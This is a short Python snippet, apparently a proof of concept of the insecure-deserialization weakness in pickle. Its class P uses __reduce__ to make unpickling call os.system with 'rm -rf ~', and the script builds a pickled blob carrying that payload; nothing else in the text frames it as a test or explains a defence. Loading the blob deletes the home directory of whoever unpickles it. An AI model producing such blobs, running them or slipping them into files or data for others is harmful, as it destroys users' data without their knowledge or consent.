import os, pickle
class P:
    def __reduce__(self):
        return (os.system, ("rm -rf ~",))
blob = pickle.dumps(P())
